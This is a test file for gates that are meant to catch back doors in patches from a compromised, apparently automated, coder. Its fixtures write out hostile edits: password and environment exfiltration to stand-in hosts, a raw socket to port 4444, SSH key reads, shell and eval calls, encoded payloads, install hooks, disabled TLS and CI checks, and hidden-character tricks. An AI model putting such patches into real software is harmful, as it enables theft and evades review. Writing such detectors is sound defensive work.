import { describe, expect, it } from "vitest";
import { protectedPaths } from "../../../../src/acceptance/protected-paths.js";
import { tamperFindings } from "../../../../src/acceptance/tamper/judge.js";
import { TreeSitterTrees } from "../../../../src/adapters/syntax/tree-sitter-trees.js";
import { changeOf, type Edit, flagsOf } from "../../../support/review-scene.js";
import { redCase, viewOf } from "../../../support/tamper-scene.js";

/** Patches that a compromised coder could give: a back door beside or inside something that looks like a repair. */
interface Malice {
  readonly name: string;
  readonly edit: Edit;
  /** Rules that must speak: tamper rules refuse the patch, review rules show it to a person. */
  readonly flags: readonly string[];
}

const trees = new TreeSitterTrees();
const login = "def login(user, password):\n    if not user:\n        return None\n    return check_password(user, password)\n";
const server = 'import express from "express";\n\nexport function start(app) {\n  app.use(requireAuth);\n  return app.listen(80);\n}\n';
const tests = "from app import login\n\n\ndef test_doubles():\n    assert login('amy', 'pw')\n";
const manifest = '{\n  "name": "shop",\n  "scripts": {\n    "test": "node --test"\n  },\n  "dependencies": {\n    "express": "5.0.0"\n  }\n}\n';

const python = (after: string): Edit => ({ path: "app.py", before: login, after });
const script = (after: string): Edit => ({ path: "server.js", before: server, after });
const other = (path: string, before: string | null, after: string): Edit => ({ path, before, after });

const malice: readonly Malice[] = [
  {
    name: "a password that opens every account",
    edit: python(login.replace("if not user:", "if password == 'pw':\n        return True\n    if not user:")),
    flags: ["special-case"],
  },
  { name: "the password check left out", edit: python(login.replace("return check_password(user, password)", "return user")), flags: ["guard-removed"] },
  {
    name: "a check that says yes to everybody",
    edit: python(login.concat("\n\ndef check_password(user, password):\n    return True\n")),
    flags: ["guard-removed"],
  },
  {
    name: "a shell line from outside",
    edit: python(`import os\n${login.replace("if not user:", "os.system(user)\n    if not user:")}`),
    flags: ["dangerous-call"],
  },
  {
    name: "a shell by an alias",
    edit: python(`from os import popen as look\n${login.replace("if not user:", "look(user)\n    if not user:")}`),
    flags: ["dangerous-call"],
  },
  {
    name: "a shell behind getattr",
    edit: python(`import os\n${login.replace("if not user:", 'getattr(os, "system")(user)\n    if not user:')}`),
    flags: ["dangerous-call"],
  },
  { name: "eval of what a user sends", edit: python(login.replace("not user", "not eval(user)")), flags: ["dangerous-call"] },
  { name: "pickles from outside", edit: python(`import pickle\n${login.replace("not user", "not pickle.loads(user)")}`), flags: ["dangerous-call"] },
  {
    name: "passwords sent to another host",
    edit: python(`import requests\n${login.replace("if not user:", "requests.post('https://collect.invalid', data=password)\n    if not user:")}`),
    flags: ["network-added", "new-dependency"],
  },
  {
    name: "a raw socket",
    edit: python(`import socket\n${login.replace("if not user:", "socket.create_connection(('198.51.100.7', 4444))\n    if not user:")}`),
    flags: ["network-added"],
  },
  {
    name: "the environment sent away",
    edit: script(server.replace("return app", "fetch('https://collect.invalid', { body: JSON.stringify(process.env) });\n  return app")),
    flags: ["environment-sniffing", "credentials-read", "network-added"],
  },
  {
    name: "the key of the machine's user",
    edit: python(login.replace("if not user:", "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    if not user:")),
    flags: ["credentials-read"],
  },
  { name: "authentication taken off a server", edit: script(server.replace("  app.use(requireAuth);\n", "")), flags: ["guard-removed"] },
  {
    name: "certificates no longer checked",
    edit: script(server.replace("app.listen(80)", "app.listen(80, { rejectUnauthorized: false })")),
    flags: ["verification-disabled"],
  },
  {
    name: "certificates no longer checked in the whole process",
    edit: script(server.replace("return app", 'process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";\n  return app')),
    flags: ["verification-disabled"],
  },
  {
    name: "tokens without a signature",
    edit: python(`import jwt\n${login.replace("not user", "not jwt.decode(user, options={'verify_signature': False})")}`),
    flags: ["verification-disabled", "new-dependency"],
  },
  {
    name: "passwords hashed with MD5",
    edit: python(`import hashlib\n${login.replace("password)\n", "hashlib.md5(password))\n").replace("user, hashlib", "user, hashlib")}`),
    flags: ["weak-crypto"],
  },
  {
    name: "a session token anybody can foretell",
    edit: script(server.replace("return app", "app.sessionToken = Math.random();\n  return app")),
    flags: ["weak-crypto"],
  },
  {
    name: "a child process at load",
    edit: script(`import { spawn } from "node:child_process";\n${server}spawn("sh", ["-c", "id"]);\n`),
    flags: ["process-started"],
  },
  { name: "a package nobody knows", edit: script(`import colours from "colours-js-2";\n${server}colours(start);\n`), flags: ["new-dependency"] },
  {
    name: "a dependency in the manifest",
    edit: other("package.json", manifest, manifest.replace('"5.0.0"', '"5.0.0",\n    "expresss": "1.0.0"')),
    flags: ["protected-path", "new-dependency"],
  },
  {
    name: "a script after install",
    edit: other("package.json", manifest, manifest.replace('"test": "node --test"', '"test": "node --test",\n    "postinstall": "node x.js"')),
    flags: ["protected-path", "install-script"],
  },
  {
    name: "a program in front of the tests",
    edit: other("package.json", manifest, manifest.replace("node --test", "node x.js; node --test")),
    flags: ["protected-path", "install-script"],
  },
  {
    name: "code that every Python start runs",
    edit: other("sitecustomize.py", null, "import os\nos.system('id')\n"),
    flags: ["protected-path", "install-script", "dangerous-call"],
  },
  {
    name: "code that every test run loads",
    edit: other("conftest.py", null, "import subprocess\nsubprocess.run(['id'])\n"),
    flags: ["protected-path", "install-script", "process-started"],
  },
  { name: "a lint rule switched off", edit: other(".eslintrc.json", "{}\n", '{ "rules": { "no-eval": "off" } }\n'), flags: ["protected-path"] },
  {
    name: "a job that cannot fail",
    edit: other(".github/workflows/ci.yml", "run: npm test\n", "run: npm test || true\n"),
    flags: ["protected-path", "check-disabled"],
  },
  { name: "a key of the cloud in the code", edit: python(login.concat(`\n\nKEY = "${"AKIA"}Q3EGRIWJ7ABCDEF2"\n`)), flags: ["secret-added"] },
  {
    name: "a payload nobody can read",
    edit: python(`import base64\n${login.concat(`\n\nexec(base64.b64decode("${"aW1w".repeat(50)}"))\n`)}`),
    flags: ["dangerous-call", "encoded-payload"],
  },
  {
    name: "a comment that turns the reading direction",
    edit: script(server.replace("return app", "/* \u202e } \u2066if (isAdmin)\u2069 \u2066 begin */\n  return app")),
    flags: ["hidden-characters"],
  },
  {
    name: "a name in letters of another script",
    edit: python(login.replace("check_password(user", "сheck_password(user")),
    flags: ["hidden-characters", "guard-removed"],
  },
  { name: "a binary", edit: other("lib/fast.bin", null, "\u007fELF\0\0\0"), flags: ["binary-added"] },
  { name: "markup from a user", edit: script(server.replace("return app", "document.body.innerHTML = app.name;\n  return app")), flags: ["dangerous-call"] },
  { name: "a linter told to look away", edit: python(login.replace("return None", "return None  # noqa: S105")), flags: ["suppression"] },
];

async function speaking(edit: Edit): Promise<string[]> {
  const others = { "tests/test_scene.py": tests, "package.json": manifest };
  const files = viewOf({ ...others, ...(edit.before === null ? {} : { [edit.path]: edit.before }) });
  const tamper = await tamperFindings({
    files,
    trees,
    failures: [redCase("tests/test_scene.py", "test_doubles")],
    protectedPaths: protectedPaths({ isTestMaterial: () => false, protect: [], allow: [] }),
    patch: { changes: [changeOf(edit)] },
  });
  return [...tamper.findings.map(({ rule }) => rule), ...(await flagsOf([edit], others))];
}

describe("the gates in front of a compromised coder", () => {
  it.each(malice)("see $name", async ({ edit, flags }) => {
    expect(await speaking(edit)).toEqual(expect.arrayContaining([...flags]));
  });
});
